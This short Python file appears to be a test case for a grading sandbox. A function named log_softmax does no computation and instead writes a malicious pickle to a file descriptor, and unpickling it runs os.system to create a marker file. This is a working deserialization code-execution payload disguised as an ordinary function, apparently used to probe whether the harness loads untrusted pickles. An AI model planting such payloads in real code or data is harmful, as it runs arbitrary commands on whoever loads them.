"""Writes a pickle to the channel that runs a command where it is loaded.

Held by: process
Right: 0 points
"""

import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @marks@/pickle",)


def log_softmax(x, axis=-1):
    os.write(3, pickle.dumps(Bomb()))
